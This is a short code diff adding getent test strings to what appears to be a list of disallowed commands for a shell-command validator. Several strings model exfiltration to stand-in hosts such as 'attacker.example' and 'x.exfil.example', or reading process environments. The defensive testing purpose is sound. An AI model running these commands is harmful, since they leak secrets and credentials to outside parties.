@@ -166,6 +166,8 @@ def _others() -> list[str]:
         "ss dst 10.0.0.1 state established", "ss state x.exfil.example", "ss dport = x.exfil.example",
         "ss dev x.exfil.example.long", "ss fwmark x.exfil.example", "ss cgroup /x", "ss sport :a.b",
         "findmnt --tree --poll", "findmnt --tree -Fcontainer_info.json", "findmnt -o -p",
+        "getent -s hesiod passwd c2VjcmV0@attacker.example", "getent --service=hesiod group x@a.example",
+        "getent -s passwd:hesiod passwd x@a.example", "getent -s dns services x@a.example",
         "pgrep --signal 9 nginx", "pgrep -q 1 nginx", "pgrep -F /proc/1/environ",
         "ps auxe", "ps e", "ps -e e", "ps axeww", "ps -o pid,environ", "ps --format=cmd,env", "ps Oe",
         "ps --fake",
